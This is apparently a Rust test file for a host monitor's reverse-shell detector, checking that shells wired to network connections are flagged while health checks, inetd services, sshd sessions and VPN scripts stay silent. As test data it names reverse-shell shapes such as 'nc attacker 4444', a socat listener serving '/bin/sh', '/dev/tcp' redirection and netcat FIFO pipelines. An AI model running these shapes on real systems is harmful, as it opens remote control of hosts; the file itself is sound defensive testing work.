//! Attack shapes and their look-alikes.
#![expect(clippy::unwrap_used, reason = "tests")]

use crate::detect::testing::{A, Lab, exec, kinds, open, origin, out, peer, pipe};
use crate::event::{Body, ConnectOp, Form, Inode, Reason, Stdio, Verdict, file, state};
use crate::finding::Detection;
use crate::finding::FindingKind::{ReverseShell, ShellConnect};
use monitor_common::exec::EXEC_RELAY;

fn wire() -> [Stdio; 3] {
    [out(A), out(A), out(A)]
}

#[test]
fn a_shell_wrapped_in_a_shell() {
    let spawned = |talks: bool| {
        let mut lab = Lab::new();
        lab.exec(20, 9, &["relay"]);
        if talks {
            lab.connect(20, A, 1);
        }
        let on_pipes = |e: &mut crate::event::Exec| (e.stdio[0], e.stdio[1]) = (pipe(7), pipe(8));
        lab.exec_with(21, 20, &["sh", "-c", "/bin/bash"], on_pipes);
        kinds(&lab.exec_with(22, 21, &["/bin/bash"], on_pipes))
    };
    assert_eq!(spawned(true), [ReverseShell]);
    assert!(spawned(false).is_empty());
}

#[test]
fn a_shell_on_a_connection() {
    for args in [&["bash", "-i"][..], &["sh"], &["sh", "-c", "sh -i"], &["python3", "x.py"]] {
        let mut lab = Lab::new();
        let found = lab.exec_with(20, 9, args, |e| e.stdio = wire());
        assert_eq!(kinds(&found), [ReverseShell], "{args:?}");
        assert_eq!(found[0].peer, Some(peer(A)));
        assert!(!found[0].alert_only);
        assert!(found[0].message.contains(A), "{}", found[0].message);
    }
}

#[test]
fn a_shell_refused_before_it_starts() {
    let mut lab = Lab::new();
    let mut program = open("/usr/bin/dash", file::FILE_EXEC, 0);
    program.origin = Some(origin(9));
    let mut event = lab.event(9, Body::Open(Box::new(program)));
    (event.reason, event.verdict) = (Reason::ReverseShell, Verdict::Denied);
    let found = lab.send(event);
    assert_eq!(kinds(&found), [ReverseShell]);
    assert_eq!(found[0].peer, Some(peer("203.0.113.66:80")));
}

/// On a loaded machine the reader of the FIFO gets its turn after nc has connected.
#[test]
fn a_stage_that_comes_last() {
    for (reason, expected) in [(Reason::ReverseShell, &[ReverseShell][..]), (Reason::None, &[])] {
        let staged = || {
            let mut lab = Lab::new();
            lab.exec(20, 9, &["nc", "attacker", "4444"]);
            lab.exec_with(21, 9, &["sh", "-i"], |e| (e.stdio[0], e.stdio[1]) = (pipe(7), pipe(8)));
            lab
        };
        let mut lab = staged();
        lab.exec(22, 9, &["cat", "/tmp/f"]);
        let mut fifo = open("/tmp/f", file::FILE_FIFO | file::FILE_TAINTED, 0);
        fifo.origin = Some(origin(20));
        let mut event = lab.event(22, Body::Open(Box::new(fifo)));
        (event.reason, event.peer_tgid) = (reason, Some(21));
        let found = lab.send(event);
        assert_eq!(kinds(&found), expected);
        assert!(found.iter().all(|d| d.culprit == Lab::key(21) && d.accomplices == [Lab::key(20), Lab::key(22)]));

        let mut lab = staged();
        let mut cat = exec(9, &["cat"]);
        cat.origin = Some(origin(20));
        let mut event = lab.event(22, Body::Exec(Box::new(cat)));
        (event.reason, event.peer_tgid) = (reason, Some(21));
        assert_eq!(kinds(&lab.send(event)), expected);
    }
}

#[test]
fn a_copy_of_a_shell_is_one() {
    let mut lab = Lab::new();
    let found = lab.exec_with(20, 9, &["/tmp/httpd", "-i"], |e| {
        e.stdio = wire();
        e.task_flags = state::TASK_SHELL | state::TASK_DRIFT;
    });
    assert_eq!(kinds(&found), [ReverseShell]);
}

#[test]
fn wrappers_and_one_way_uses_are_none() {
    let mut lab = Lab::new();
    // `head -1 <&3` of a health check, `timeout … sh <&3 >&3` before it becomes a shell.
    assert!(lab.exec_with(20, 9, &["head", "-1"], |e| e.stdio[0] = out(A)).is_empty());
    assert!(lab.exec_with(21, 9, &["timeout", "20", "sh"], |e| e.stdio = wire()).is_empty());
    // A logger's child, a script that reads data from a connection.
    assert!(lab.exec_with(22, 9, &["sh", "x.sh"], |e| e.stdio[1] = out(A)).is_empty());
    assert!(lab.exec_with(23, 9, &["sh", "x.sh"], |e| e.stdio[0] = out(A)).is_empty());
    assert!(!lab.exec_with(24, 9, &["bash"], |e| e.stdio[0] = out(A)).is_empty());
}

#[test]
fn inetd_scripts_are_served_and_bare_shells_are_not() {
    let accepted =
        [Stdio::InetOther(Some(peer("10.0.0.9:5123"))), Stdio::InetOther(Some(peer("10.0.0.9:5123"))), Stdio::Device];
    let mut lab = Lab::new();
    lab.exec(15, 9, &["inetd"]);
    let stdio = accepted.clone();
    assert!(lab.exec_with(20, 15, &["sh", "/lab/agent.sh"], |e| e.stdio = stdio).is_empty());
    let found = lab.exec_with(21, 15, &["sh"], |e| e.stdio = accepted);
    assert_eq!(kinds(&found), [ReverseShell]);
}

#[test]
fn socat_serving_a_shell() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/sh"]);
    let mut listen = lab.connection(15, "0.0.0.0:4444", 1);
    listen.op = ConnectOp::Listen;
    lab.act(15, Body::Connect(listen));
    lab.fork(16, 15);
    let unix = Stdio::Unix(crate::event::Inode { dev: 9, ino: 77 });
    let stdio = [unix.clone(), unix, Stdio::Device];
    let child = stdio.clone();
    let found = lab.exec_with(17, 16, &["/bin/sh"], |e| e.stdio = child);
    assert_eq!(kinds(&found), [ReverseShell]);
    // node's children have socket pairs, too, and run `sh -c`.
    assert!(lab.exec_with(18, 16, &["/bin/sh", "-c", "ls"], |e| e.stdio = stdio).is_empty());
}

fn relay(lab: &mut Lab, pid: u32, parent: u32, args: &[&str], stdio: Stdio) -> usize {
    let mut body = crate::detect::testing::exec(parent, args);
    body.stdio = [stdio.clone(), stdio, Stdio::Device];
    body.flags |= EXEC_RELAY;
    lab.act_for(pid, Reason::ReverseShell, Body::Exec(Box::new(body))).len()
}

#[test]
fn relays() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["/tmp/implant"]);
    lab.connect(15, A, 1);
    assert_eq!(relay(&mut lab, 16, 15, &["sh"], pipe(5)), 1);
    let mut lab = Lab::new();
    lab.exec(15, 9, &["node", "app.js"]);
    lab.connect(15, A, 1);
    assert_eq!(relay(&mut lab, 16, 15, &["sh", "-c", "convert a b"], pipe(5)), 0, "node's exec()");
    assert_eq!(relay(&mut lab, 17, 3, &["bash", "-s"], pipe(6)), 0, "fed by the runtime");
}

#[test]
fn sessions_that_came_in_are_no_relays() {
    let mut lab = Lab::new();
    lab.exec_with(15, 9, &["/usr/sbin/sshd"], |e| e.task_flags = state::TASK_SESSION_SERVER);
    lab.connect(15, "10.0.0.2:53", 1);
    lab.fork(16, 15);
    assert_eq!(relay(&mut lab, 17, 16, &["bash", "-s"], pipe(5)), 0);
    assert_eq!(relay(&mut lab, 18, 16, &["python3"], pipe(6)), 0);
}

#[test]
fn terminals() {
    // A web terminal listens; sudo's pty parent has only looked names up.
    let mut lab = Lab::new();
    lab.exec(15, 9, &["python3", "/usr/bin/jupyter-lab"]);
    let mut listen = lab.connection(15, "0.0.0.0:8888", 1);
    listen.op = ConnectOp::Listen;
    lab.act(15, Body::Connect(listen));
    lab.connect(15, "151.101.0.223:443", 2);
    assert_eq!(relay(&mut lab, 16, 15, &["bash"], Stdio::Tty), 0);
    lab.exec(25, 9, &["sudo", "bash"]);
    lab.connect(25, "10.0.0.2:53", 3);
    assert_eq!(relay(&mut lab, 26, 25, &["bash"], Stdio::Tty), 0);
    // `pty.spawn` of a Python that has the connection on its own stdio.
    lab.exec(35, 9, &["python3", "-c", "…"]);
    lab.connect(35, A, 4);
    let flags = state::TASK_INTERPRETER | state::TASK_STDIN_INET | state::TASK_STDOUT_INET;
    let found = lab.act(35, Body::Moved { stdio: [out(A), out(A), Stdio::Device], task_flags: flags });
    assert!(found.is_empty(), "two of three may be a health check");
    lab.fork(36, 35);
    let found = lab.exec_with(36, 35, &["/bin/sh"], |e| e.stdio = [Stdio::Tty, Stdio::Tty, Stdio::Tty]);
    assert_eq!(kinds(&found), [ReverseShell]);
    assert_eq!(found[0].accomplices, [Lab::key(35)]);
    assert_eq!(found[0].peer, Some(peer(A)));
}

#[test]
fn moved_descriptors() {
    let mut lab = Lab::new();
    lab.exec(20, 9, &["bash", "wait-for-it.sh"]);
    let shell = state::TASK_SHELL;
    let probe = [Stdio::Device, out(A), Stdio::Device];
    assert!(lab.act(20, Body::Moved { stdio: probe, task_flags: shell }).is_empty());
    let closed = [out(A), Stdio::Device, Stdio::Device];
    assert!(lab.act(20, Body::Moved { stdio: closed, task_flags: shell }).is_empty());
    let irc = [out(A), out(A), Stdio::Device];
    assert!(lab.act_for(20, Reason::ReverseShell, Body::Moved { stdio: irc, task_flags: shell }).is_empty());
    assert_eq!(kinds(&lab.act(20, Body::Moved { stdio: wire(), task_flags: shell })), [ReverseShell]);
}

#[test]
fn what_was_stopped_is_told() {
    let mut lab = Lab::new();
    let mut body = crate::detect::testing::exec(9, &["sh", "-c", "x"]);
    body.form = Form::Argument;
    let mut event = lab.event(20, Body::Exec(Box::new(body)));
    event.reason = Reason::ReverseShell;
    event.verdict = Verdict::Killed;
    assert_eq!(kinds(&lab.send(event)), [ReverseShell]);
}

#[test]
fn a_feeder_that_connects() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["node", "r.js"]);
    lab.exec_with(16, 15, &["/bin/sh"], |e| e.stdio = [pipe(4), pipe(5), pipe(5)]);
    let connect = |lab: &mut Lab, to: &str, cookie| {
        let mut c = lab.connection(15, to, cookie);
        c.task_flags |= state::TASK_FEEDS_SHELL;
        c.sink_tgid = Some(16);
        lab.act_for(15, Reason::ReverseShell, Body::Connect(c))
    };
    assert!(connect(&mut lab, "10.0.0.2:53", 1).is_empty(), "the name lookup before");
    let found = connect(&mut lab, A, 2);
    assert_eq!(kinds(&found), [ReverseShell]);
    assert_eq!((found[0].culprit, &found[0].accomplices[..]), (Lab::key(16), &[Lab::key(15)][..]));
    // `subprocess.run(["bash", "-s"], input=…)`, then a request.
    let mut lab = Lab::new();
    lab.exec(15, 9, &["python3", "deploy.py"]);
    lab.exec_with(16, 15, &["bash", "-s"], |e| e.stdio[0] = pipe(4));
    lab.exit(16);
    assert!(connect(&mut lab, A, 3).is_empty());
}

#[test]
fn a_loop_in_one_bash() {
    let mut lab = Lab::new();
    lab.exec(20, 9, &["bash", "-c", "exec 5<>/dev/tcp/…"]);
    lab.connect(20, A, 1);
    assert!(lab.payload(20, A, 1, true, b"touch /tmp/pwned\n").is_empty());
    lab.fork(21, 20);
    let found = lab.exec_with(21, 20, &["touch", "/tmp/pwned"], |e| e.stdio = [Stdio::Device, out(A), out(A)]);
    assert_eq!(kinds(&found), [ReverseShell]);
    assert_eq!(found[0].culprit, Lab::key(20));
    assert!(!found[0].alert_only);
}

#[test]
fn a_loop_in_lua_and_a_queue_worker() {
    let mut lab = Lab::new();
    lab.exec(20, 9, &["lua5.4", "rs.lua"]);
    lab.connect(20, A, 1);
    lab.payload(20, A, 1, true, b"id\n");
    let found = lab.exec(21, 20, &["/bin/sh", "-c", "id"]);
    assert_eq!(kinds(&found), [ReverseShell]);
    assert!(found[0].alert_only);
    // A worker gets its job as data.
    let mut lab = Lab::new();
    lab.exec(20, 9, &["python3", "worker.py"]);
    lab.connect(20, "10.0.0.5:5672", 1);
    lab.payload(20, "10.0.0.5:5672", 1, true, br#"{"job":"convert a.png b.png"}"#);
    assert!(lab.exec(21, 20, &["/bin/sh", "-c", "convert a.png b.png"]).is_empty());
}

#[test]
fn bash_health_checks_are_silent() {
    let mut lab = Lab::new();
    lab.exec(20, 9, &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080; …"]);
    let to = "127.0.0.1:8080";
    lab.connect(20, to, 1);
    assert!(lab.payload(20, to, 1, false, b"GET / HTTP/1.0\r\n\r\n").is_empty());
    assert!(lab.payload(20, to, 1, true, b"HTTP/1.0 200 OK\r\n\r\nok\n").is_empty());
    assert!(lab.exec_with(21, 20, &["head", "-1"], |e| e.stdio[0] = out(to)).is_empty());
    assert!(lab.exec_with(22, 20, &["grep", "-q", "200"], |e| e.stdio[0] = out(to)).is_empty());
}

#[test]
fn the_shells_own_connection_is_not_told_twice() {
    let mut lab = Lab::new();
    lab.exec(20, 9, &["bash", "-c", "x"]);
    lab.connect(20, A, 1);
    lab.payload(20, A, 1, true, b"id\n");
    let mut all = lab.exec_with(21, 20, &["id"], |e| e.stdio[1] = out(A));
    all.extend(lab.payload(20, A, 1, false, b"uid=0(root)\n"));
    assert_eq!(kinds(&all), [ReverseShell], "no {ShellConnect:?}");
    assert!(all.first().unwrap().evidence.len() >= 2);
}

#[test]
fn vpn_scripts_are_silent() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["openvpn", "c.conf"]);
    lab.connect(15, "198.51.100.1:1194", 1);
    lab.payload(15, "198.51.100.1:1194", 1, true, b"\x38\x01\x02\xff");
    assert!(lab.exec(16, 15, &["/bin/sh", "-c", "/etc/openvpn/up.sh"]).is_empty());
}

#[test]
fn output_that_leaves_is_no_remote_control() {
    let mut lab = Lab::new();
    let mut body = crate::detect::testing::exec(9, &["sh"]);
    body.stdio = [pipe(4), pipe(5), Stdio::Device];
    body.flags |= EXEC_RELAY;
    assert!(lab.act(20, Body::Exec(Box::new(body))).is_empty(), "cat x.sh | sh | nc loghost");
}

/// A relay (20) listens on a socket file and connects outward; 30 speaks to it, from another tree.
fn behind_a_socket_file(relay_first: bool, shell: impl FnOnce(&mut Lab) -> Vec<Detection>) -> Vec<Detection> {
    let mut lab = Lab::new();
    lab.exec(20, 5, &["relay"]);
    lab.exec(30, 9, &["client"]);
    let mut found = Vec::new();
    if relay_first {
        found.extend(lab.connect(20, A, 1));
    }
    lab.act(30, Body::UnixPeer { listener: 20 });
    found.extend(shell(&mut lab));
    if !relay_first {
        found.extend(lab.connect(20, A, 1));
    }
    found
}

#[test]
fn a_shell_behind_a_socket_file() {
    let socket = |ino| Stdio::Unix(Inode { dev: 9, ino });
    for relay_first in [true, false] {
        // The shell is the client itself, by its own standard input.
        let found = behind_a_socket_file(relay_first, |lab| {
            lab.exec_with(30, 9, &["sh"], |e| e.stdio = [socket(7), socket(7), socket(7)])
        });
        assert_eq!(kinds(&found), [ReverseShell]);
        assert_eq!((found[0].culprit, &found[0].accomplices[..]), (Lab::key(30), &[Lab::key(20)][..]));
        assert_eq!(found[0].peer, Some(peer(A)));
        // The client passes on what it hears.
        for channel in [pipe(8), socket(8), Stdio::Tty] {
            let found = behind_a_socket_file(relay_first, |lab| {
                lab.exec_with(31, 30, &["sh"], |e| (e.stdio[0], e.stdio[1]) = (channel.clone(), channel.clone()))
            });
            assert_eq!(kinds(&found), [ReverseShell], "{channel:?}");
            assert_eq!((found[0].culprit, &found[0].accomplices[..]), (Lab::key(31), &[Lab::key(20)][..]));
        }
        // A command with its text, and one whose input is a file.
        for (args, input) in [(&["sh", "-c", "id"][..], pipe(8)), (&["sh"], Stdio::Device)] {
            let found = behind_a_socket_file(relay_first, |lab| {
                lab.exec_with(31, 30, args, |e| (e.stdio[0], e.stdio[1]) = (input.clone(), pipe(9)))
            });
            assert!(found.is_empty(), "{args:?} {found:?}");
        }
    }
}

/// A database's client starts a shell: the database had its connection to the primary long before.
#[test]
fn a_neighbour_with_an_old_connection() {
    let mut lab = Lab::new();
    lab.exec(20, 5, &["database"]);
    lab.connect(20, A, 1);
    lab.advance(60_000);
    lab.exec(30, 9, &["client"]);
    lab.act(30, Body::UnixPeer { listener: 20 });
    assert!(lab.exec_with(31, 30, &["sh"], |e| (e.stdio[0], e.stdio[1]) = (pipe(8), pipe(9))).is_empty());
}

/// `cat f | sh 2>&1 | nc -l 4444 > f`, and `nc -l 4444 < f | sh > f`: whichever comes last.
#[test]
fn a_shell_served_in_a_pipeline() {
    let fifo = |ino| Stdio::Pipe(Inode { dev: 8, ino });
    let closed = [([pipe(1), pipe(2), pipe(2)], [pipe(2), fifo(3)]), ([pipe(1), fifo(3), fifo(3)], [fifo(3), pipe(1)])];
    // `sh < x | nc -l`, `nc -l | sh -s | logger`, `nc -l | sh x.sh > f`
    let open =
        [([pipe(1), pipe(2), pipe(2)], [pipe(2), Stdio::Device]), ([pipe(1), pipe(2), pipe(2)], [fifo(3), pipe(1)])];
    let play = |shell: &[Stdio; 3], listener: &[Stdio; 2], text: &[&str], listens_first: bool| {
        let mut lab = Lab::new();
        let mut found = Vec::new();
        for turn in [listens_first, !listens_first] {
            if turn {
                lab.exec_with(20, 9, &["nc", "-l", "4444"], |e| e.stdio[..2].clone_from_slice(listener));
                let mut listen = lab.connection(20, "0.0.0.0:4444", 1);
                listen.op = ConnectOp::Listen;
                found.extend(lab.act(20, Body::Connect(listen)));
            } else {
                found.extend(lab.exec_with(21, 9, text, |e| e.stdio = shell.clone()));
            }
        }
        assert!(found.iter().all(|d| d.culprit == Lab::key(21) && d.accomplices == [Lab::key(20)] && d.alert_only));
        kinds(&found)
    };
    for first in [true, false] {
        for (shell, listener) in &closed {
            assert_eq!(play(shell, listener, &["sh", "-i"], first), [ReverseShell]);
            assert!(play(shell, listener, &["sh", "answer.sh"], first).is_empty(), "a service in a script");
        }
        for (shell, listener) in &open {
            assert!(play(shell, listener, &["sh"], first).is_empty());
        }
    }
}

/// `pty.fork()`, a shell, and a connection only then.
#[test]
fn the_holder_of_a_terminal_connects_later() {
    let play = |holder: &[&str], change: &dyn Fn(&mut crate::event::Exec), said: &[(bool, &[u8])]| {
        let mut lab = Lab::new();
        lab.exec_with(15, 9, holder, change);
        lab.exec_with(16, 15, &["bash"], |e| e.stdio = [Stdio::Tty, Stdio::Tty, Stdio::Tty]);
        lab.connect(15, A, 1);
        said.iter().flat_map(|(inbound, data)| lab.payload(15, A, 1, *inbound, data)).collect::<Vec<_>>()
    };
    let told: &[(bool, &[u8])] = &[(true, b"id\n")];
    for said in [told, &[(false, b"$ "), (true, b"id\n")]] {
        let found = play(&["python3", "x.py"], &|_| {}, said);
        assert_eq!(kinds(&found), [ReverseShell]);
        assert!(found[0].alert_only && found[0].culprit == Lab::key(16) && found[0].peer == Some(peer(A)));
    }
    let questions: [&[u8]; 4] = [b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02", b"PING\r\n", b"\0\0\0\x08\x04"];
    for question in questions {
        assert!(play(&["python3", "test.py"], &|_| {}, &[(false, question), (true, b"ok\r\n")]).is_empty());
    }
    assert!(play(&["python3", "test.py"], &|_| {}, &[(true, b"220 mail ESMTP\r\n")]).is_empty());
    assert!(play(&["mc"], &|e| e.stdio[0] = Stdio::Tty, told).is_empty(), "its own terminal, handed on");
    assert!(play(&["sshd"], &|e| e.task_flags |= state::TASK_SESSION_SERVER, told).is_empty());
}

/// `script -qc bash` with its standard input and output on a connection: it starts the shell by way of `sh -c`.
#[test]
fn a_terminal_by_way_of_a_shell() {
    let terminal = || [Stdio::Tty, Stdio::Tty, Stdio::Tty];
    let play = |stdio: [Stdio; 3]| {
        let mut lab = Lab::new();
        let on_wire = stdio == wire();
        lab.exec_with(15, 9, &["script", "-qc", "bash"], |e| {
            e.stdio = stdio;
            if on_wire {
                e.task_flags |= state::TASK_STDIN_INET | state::TASK_STDOUT_INET;
            }
        });
        lab.exec_with(16, 15, &["sh", "-c", "bash"], |e| e.stdio = terminal());
        kinds(&lab.exec_with(17, 16, &["bash"], |e| e.stdio = terminal()))
    };
    assert_eq!(play(wire()), [ReverseShell]);
    assert!(play(terminal()).is_empty());
    assert!(play([Stdio::Device, Stdio::Device, Stdio::Device]).is_empty());
}
